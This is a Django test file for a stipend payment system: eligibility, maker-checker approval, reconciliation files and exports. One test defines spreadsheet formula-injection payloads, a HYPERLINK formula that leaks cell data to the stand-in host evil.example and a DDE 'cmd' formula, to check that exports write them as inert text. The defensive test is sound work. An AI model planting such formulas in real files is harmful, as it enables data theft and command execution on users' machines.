"""Stipend runs: eligibility, maker-checker, one payment per person and month, files, and
reconciliation that applies nothing unless every row is right."""

from __future__ import annotations

import io
from collections.abc import Callable
from datetime import date
from decimal import Decimal
from typing import Any

import pytest
from django.db import IntegrityError, transaction

from sanctuary.people.admission import NotAdmissible
from sanctuary.people.models import HouseholdMember, Relation
from sanctuary.stipends import actions, exports
from sanctuary.stipends.models import (
    Enrollment,
    Funder,
    Hold,
    LineStatus,
    PaymentLine,
    PaymentRun,
    RunState,
    StipendRule,
)
from sanctuary.vetting import actions as vetting
from sanctuary.vetting.models import FlagKind, Outcome
from tests.factories import PersonFactory
from tests.shelter.helpers import accepted
from tests.threads import at_once

pytestmark = pytest.mark.django_db
NOV = date(2026, 11, 1)


@pytest.fixture
def officers(make_user: Any) -> tuple[Any, Any]:
    return make_user("vetting_officer"), make_user("vetting_officer")


@pytest.fixture
def finance(make_user: Any) -> tuple[Any, Any]:
    return make_user("finance_officer"), make_user("finance_officer")


@pytest.fixture
def funder() -> Funder:
    funder = Funder.objects.create(name="Funder One")
    StipendRule.objects.create(funder=funder, effective_from=date(2026, 1, 1), single_amount=700, family_amount=1400)
    return funder


def _enrol(people: list[Any], funder: Funder, user: Any, start: date = date(2026, 10, 1)) -> None:
    for person in people:
        actions.do_enroll(user, person, funder, start)


def test_amounts_single_family_hold_and_flag(team_a, officers, finance, funder) -> None:  # type: ignore[no-untyped-def]
    single, married, held, flagged = (accepted(team_a, officers) for _ in range(4))
    HouseholdMember.objects.create(person=married, relation=Relation.SPOUSE, name="Ma Wife")
    _enrol([single, married, held, flagged], funder, finance[0])
    Hold.objects.create(
        person=held, reason="did not come to the meeting", start=date(2026, 11, 10), created_by=finance[0]
    )
    vetting.do_raise_flag(officers[0], flagged, FlagKind.INFILTRATOR, "new doubts")
    run = actions.do_draft_run(finance[0], funder, NOV)
    amounts = dict(run.lines.values_list("person_id", "amount"))
    assert amounts == {single.pk: Decimal("700.00"), married.pk: Decimal("1400.00")}
    assert run.total == Decimal("2100.00") and run.people == 2
    assert actions.why_not_paid(held, funder, NOV) == "hold"
    assert actions.why_not_paid(flagged, funder, NOV) == "flagged"


def test_rejected_people_cannot_be_put_on_a_list(team_a, officers, finance, funder) -> None:  # type: ignore[no-untyped-def]
    person = PersonFactory(team=team_a)
    decision = vetting.do_propose(officers[0], person, Outcome.REJECTED, "spy")
    vetting.do_second(officers[1], decision, True, "agree")
    with pytest.raises(NotAdmissible):
        actions.do_enroll(finance[0], person, funder, NOV)
    with pytest.raises(NotAdmissible):
        Enrollment.objects.create(person=person, funder=funder, start=NOV, added_by=finance[0])


def test_proration_and_max_months(team_a, officers, finance, funder) -> None:  # type: ignore[no-untyped-def]
    StipendRule.objects.create(
        funder=funder,
        effective_from=date(2026, 11, 1),
        single_amount=700,
        family_amount=1400,
        prorate=True,
        max_months=2,
    )
    late = accepted(team_a, officers)
    _enrol([late], funder, finance[0], start=date(2026, 11, 16))
    run = actions.do_draft_run(finance[0], funder, NOV)
    line = run.lines.get()
    assert line.amount == Decimal("350.00") and line.basis == "single;prorated:15/30"
    veteran = accepted(team_a, officers)
    _enrol([veteran], funder, finance[0], start=date(2026, 9, 1))
    for month in (date(2026, 9, 1), date(2026, 10, 1)):
        actions.do_draft_run(finance[0], funder, month)  # the older rule: no limit
    assert PaymentLine.objects.filter(person=veteran).count() == 2
    run = actions.do_draft_run(finance[0], funder, NOV)
    assert veteran.pk not in set(run.lines.values_list("person_id", flat=True))  # two months already paid


def test_maker_checker_and_one_payment_per_month(team_a, officers, finance, funder) -> None:  # type: ignore[no-untyped-def]
    person = accepted(team_a, officers)
    _enrol([person], funder, finance[0])
    run = actions.do_draft_run(finance[0], funder, NOV)
    again = actions.do_draft_run(finance[0], funder, NOV)  # a second click rebuilds the same draft
    assert again.pk == run.pk and PaymentLine.objects.count() == 1
    with pytest.raises(actions.RunError) as error:
        actions.do_approve_run(finance[0], run, seen=actions.run_fingerprint(run))
    assert error.value.code == "own_run"
    run.approved_by = finance[0]  # the database refuses it too
    run.state = RunState.APPROVED
    with pytest.raises(IntegrityError), transaction.atomic():
        run.save()
    actions.do_approve_run(finance[1], run, seen=actions.run_fingerprint(run))
    with pytest.raises(actions.RunError):
        actions.do_draft_run(finance[0], funder, NOV)  # approved: no redraft
    line = PaymentLine.objects.get()
    with pytest.raises(IntegrityError), transaction.atomic():
        PaymentLine.objects.create(
            run=run, person=person, funder=funder, month=NOV, amount=700, currency="THB", basis="x"
        )
    assert line.status == LineStatus.PENDING


def _disbursed(team_a, officers, finance, funder, n: int = 3):  # type: ignore[no-untyped-def]
    people = [accepted(team_a, officers, alias=f"ကိုအောင် {i}") for i in range(n)]
    _enrol(people, funder, finance[0])
    run = actions.do_draft_run(finance[0], funder, NOV)
    actions.do_approve_run(finance[1], run, seen=actions.run_fingerprint(run))
    actions.do_disburse_run(finance[1], run, "cash")
    return run, list(run.lines.select_related("person").order_by("person__case_code"))


def test_reconciliation_csv_round_trip(team_a, officers, finance, funder) -> None:  # type: ignore[no-untyped-def]
    run, lines = _disbursed(team_a, officers, finance, funder)
    template = exports.run_csv(lines)
    rows = template.strip().splitlines()
    filled = [rows[0]] + [
        row.replace(",,,", f",paid,RC-{n},05/11/2026") if n % 2 == 0 else row.replace(",,,", ",not_collected,,45966")
        for n, row in enumerate(rows[1:])
    ]
    visible = {line.pk for line in lines}
    report = exports.read_reconciliation(run, ("\ufeff" + "\n".join(filled)).encode(), visible)
    assert report.errors == []
    actions.do_reconcile_run(finance[0], run, report.marks)
    run.refresh_from_db()
    assert run.state == RunState.RECONCILED
    assert sorted(run.lines.values_list("status", flat=True)) == ["not_collected", "paid", "paid"]


def test_a_bad_reconciliation_file_applies_nothing_and_names_each_row(team_a, officers, finance, funder) -> None:  # type: ignore[no-untyped-def]
    run, lines = _disbursed(team_a, officers, finance, funder, n=4)
    a, b, c, d = lines
    zawgyi_receipt = "ေျပစာ ၁၂"  # Zawgyi: stored as Unicode when the file is good
    rows = [
        "line,case_code,amount,currency,status,receipt,paid_on",
        f"{a.pk},{a.person.case_code},700.00,THB,paid,{zawgyi_receipt},2026-11-05",
        f"{b.pk},2099-9999,700.00,THB,paid,R2,2026-11-05",  # unknown person
        f"{c.pk},{c.person.case_code},7000,THB,paid,R3,2026-11-05",  # wrong amount
        f"{a.pk},{a.person.case_code},700.00,THB,paid,R4,2026-11-05",  # duplicate
        f'{d.pk},{d.person.case_code},"1,400.00",THB,paid,R5,31/02/2026',  # wrong amount, bad date
        "999999,2025-0001,700,THB,paid,R6,",  # not in the run
    ]
    report = exports.read_reconciliation(run, "\n".join(rows).encode(), {line.pk for line in lines})
    assert [row for row, _message in report.errors] == [3, 4, 5, 6, 7]
    assert not PaymentLine.objects.exclude(status=LineStatus.PENDING).exists()
    good = exports.read_reconciliation(run, "\n".join(rows[:2]).encode(), {line.pk for line in lines})
    assert good.errors == [] and good.marks[0].receipt == "ပြေစာ ၁၂"


def test_a_payment_day_far_from_today_is_refused_naming_the_range(team_a, officers, finance, funder) -> None:  # type: ignore[no-untyped-def]
    """A spreadsheet's paid_on of year 9999 (or an Excel serial of 1900) is an error on its row."""
    from sanctuary.lib import bounds

    run, lines = _disbursed(team_a, officers, finance, funder, n=2)
    a, b = lines
    rows = [
        "line,case_code,amount,currency,status,receipt,paid_on",
        f"{a.pk},{a.person.case_code},700.00,THB,paid,R1,9999-12-31",
        f"{b.pk},{b.person.case_code},700.00,THB,paid,R2,1900-01-02",
    ]
    report = exports.read_reconciliation(run, "\n".join(rows).encode(), {line.pk for line in lines})
    shown = str(bounds.MESSAGE % bounds.limits_shown(bounds.STIPEND_MONTH))
    assert report.errors == [(2, shown), (3, shown)] and report.marks == []


def test_cash_list_pdf_embeds_our_burmese_font_and_renders(team_a, officers, finance, funder, tmp_path) -> None:  # type: ignore[no-untyped-def]
    import pikepdf
    import pypdfium2

    run, lines = _disbursed(team_a, officers, finance, funder)
    pdf = exports.cash_list_pdf(run, lines, "my")
    with pikepdf.open(io.BytesIO(pdf)) as document:
        fonts = {str(font.get("/BaseFont")) for page in document.pages for font in page.Resources.Font.values()}
    assert any("Noto-Sans-Myanmar" in name for name in fonts), fonts
    document = pypdfium2.PdfDocument(pdf)
    image = document[0].render(scale=2).to_pil()
    from tests.e2e.conftest import ARTIFACTS

    ARTIFACTS.mkdir(exist_ok=True)
    image.save(ARTIFACTS / "cash-list-page-1.png")
    text = document[0].get_textpage().get_text_range()
    # Shaped glyphs map back to the Unicode syllables (stacked vowels and the asat included).
    assert "ကို" in text and "အောင်" in text
    dark = sum(image.convert("L").histogram()[:128])
    assert dark > 2000  # a table with text, not a blank page
    xlsx = exports.cash_list_xlsx(run, lines)
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(xlsx)).active
    assert sheet.cell(row=2, column=3).value == "ကိုအောင် 0"
    assert "true" not in exports.funder_export(lines).lower()


def test_uploading_a_reconciliation_file_is_a_job_that_names_bad_rows(team_a, officers, finance, funder) -> None:  # type: ignore[no-untyped-def]
    """Through the page: the file becomes a job; bad rows are listed on the job's page (kept
    encrypted), nothing is applied; a good file reconciles the run."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    from sanctuary.background.models import Job
    from tests.conftest import verified_client

    run, lines = _disbursed(team_a, officers, finance, funder, n=2)
    a, b = lines
    client = verified_client(finance[0])
    header = "line,case_code,amount,currency,status,receipt,paid_on"
    bad = f"{header}\n{a.pk},{a.person.case_code},700.00,THB,paid,R1,2026-11-05\n{b.pk},2099-9999,700.00,THB,paid,R2,\n"
    upload = SimpleUploadedFile("run.csv", bad.encode(), content_type="text/csv")
    page = client.post(f"/stipends/runs/{run.pk}/upload/", {"file": upload}, follow=True).content.decode()
    assert "Nothing was applied" in page and "Row 3" in page
    job = Job.objects.get(kind="stipends.reconcile")
    assert job.state == "failed" and job.error == "rows" and not job.input_name
    assert not PaymentLine.objects.exclude(status=LineStatus.PENDING).exists()
    rows = [
        f"{a.pk},{a.person.case_code},700.00,THB,paid,R1,2026-11-05",
        f"{b.pk},{b.person.case_code},700,THB,returned,,",
    ]
    good = "\n".join([header, *rows]) + "\n"
    upload = SimpleUploadedFile("run.csv", good.encode(), content_type="text/csv")
    page = client.post(f"/stipends/runs/{run.pk}/upload/", {"file": upload}, follow=True).content.decode()
    assert "2 lines reconciled" in page
    run.refresh_from_db()
    assert run.state == RunState.RECONCILED


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"ok")'


def test_no_export_writes_a_live_formula(team_a, officers, finance, funder) -> None:  # type: ignore[no-untyped-def]
    """An alias (or a receipt) typed as a formula is written as text in every CSV and XLSX:
    the cash list, the bank file and the funder's export."""
    import csv

    from openpyxl import load_workbook

    run, lines = _disbursed(team_a, officers, finance, funder, n=2)
    lines[0].person.alias = HOSTILE
    lines[0].person.save()
    lines[1].person.alias = "@SUM(1+1)*cmd|' /C calc'!A0"
    lines[1].person.save()
    lines[0].receipt = "+1-2"
    lines[0].save(update_fields=["receipt"])
    lines = list(run.lines.select_related("person").order_by("person__case_code"))
    sheet = load_workbook(io.BytesIO(exports.cash_list_xlsx(run, lines))).active
    assert sheet.cell(row=2, column=3).value == HOSTILE and sheet.cell(row=2, column=3).data_type == "s"
    assert sheet.cell(row=3, column=3).data_type == "s"
    funder_rows = list(csv.reader(io.StringIO(exports.funder_export(lines))))
    assert funder_rows[1][2] == "'" + HOSTILE and funder_rows[2][2].startswith("'@")
    bank_rows = list(csv.reader(io.StringIO(exports.run_csv(lines))))
    assert bank_rows[1][5] == "'+1-2" and bank_rows[1][2] == "700.00"  # a number stays a number
    # The bank file comes back for reconciliation: the receipt is read as typed.
    bank_rows[1][4:7] = ["paid", bank_rows[1][5], "05/11/2026"]
    bank_rows[2][4:7] = ["not_collected", "", "45966"]
    out = io.StringIO()
    csv.writer(out).writerows(bank_rows)
    report = exports.read_reconciliation(run, out.getvalue().encode(), {line.pk for line in lines})
    assert report.errors == [] and [mark.receipt for mark in report.marks if mark.receipt] == ["+1-2"]


def test_changes_from_last_month_show_only_people_the_viewer_may_see(  # type: ignore[no-untyped-def]
    team_a, team_b, officers, finance, funder, make_user, login
) -> None:
    """Issue 17, item 7: the run covers every team; its "changes from last month" named the
    people of teams the viewer may not see."""
    mine = accepted(team_a, officers, alias="ကိုဇော် A")
    elsewhere = accepted(team_b, officers, alias="Ko Hidden B")
    director = make_user("director", teams=[team_a, team_b], username="boss")
    _enrol([mine], funder, director, start=date(2026, 10, 1))
    _enrol([elsewhere], funder, director, start=date(2026, 11, 1))
    actions.do_draft_run(director, funder, date(2026, 10, 1))
    run = actions.do_draft_run(director, funder, NOV)
    page = login(finance[0]).get(f"/stipends/runs/{run.pk}/").content.decode()
    assert "Ko Hidden B" not in page and elsewhere.case_code not in page
    assert 'id="diff-hidden"' in page
    assert elsewhere.case_code in login(director).get(f"/stipends/runs/{run.pk}/").content.decode()


def test_an_approval_binds_to_the_version_reviewed(team_a, officers, finance, funder, login) -> None:  # type: ignore[no-untyped-def]
    """Issue 17, item 5: the checker reviewed one run; the maker drafted it again with more
    people; the same click must not approve the new one."""
    import re

    people = [accepted(team_a, officers) for _ in range(2)]
    _enrol(people[:1], funder, finance[0])
    run = actions.do_draft_run(finance[0], funder, NOV)
    checker = login(finance[1])
    page = checker.get(f"/stipends/runs/{run.pk}/").content.decode()
    found = re.search(r'name="version" value="([0-9a-f]{64})"', page)
    assert found is not None
    _enrol(people[1:], funder, finance[0])
    actions.do_draft_run(finance[0], funder, NOV)  # the maker redrafts: now two people
    checker.post(f"/stipends/runs/{run.pk}/approve/", {"version": found.group(1)})
    run.refresh_from_db()
    assert run.state == RunState.DRAFT and run.approved_by is None
    fresh = re.search(
        r'name="version" value="([0-9a-f]{64})"', checker.get(f"/stipends/runs/{run.pk}/").content.decode()
    )
    assert fresh is not None and fresh.group(1) != found.group(1)
    checker.post(f"/stipends/runs/{run.pk}/approve/", {"version": fresh.group(1)})
    run.refresh_from_db()
    assert run.state == RunState.APPROVED and run.people == 2


@pytest.mark.django_db(transaction=True)
def test_concurrent_first_drafts_of_one_month_make_one_run_and_no_500(team_a, make_user) -> None:  # type: ignore[no-untyped-def]
    """Issue 17 (low): 21 of 24 simultaneous first drafts of a month returned 500."""

    officers = (make_user("vetting_officer"), make_user("vetting_officer"))
    finance = [make_user("finance_officer") for _ in range(6)]
    funder = Funder.objects.create(name="Funder Two")
    StipendRule.objects.create(funder=funder, effective_from=date(2026, 1, 1), single_amount=700, family_amount=1400)
    _enrol([accepted(team_a, officers) for _ in range(3)], funder, finance[0])

    def draft(user: Any) -> Callable[[], object]:
        def run() -> object:
            try:
                actions.do_draft_run(user, funder, NOV)
            except actions.RunError as refused:
                return refused.code
            return "drafted"

        return run

    outcomes = at_once([draft(user) for user in finance])
    assert set(outcomes) <= {"drafted", "drafting"} and "drafted" in outcomes, outcomes
    run = PaymentRun.objects.get(funder=funder, month=NOV)
    assert run.lines.count() == 3 and run.people == 3
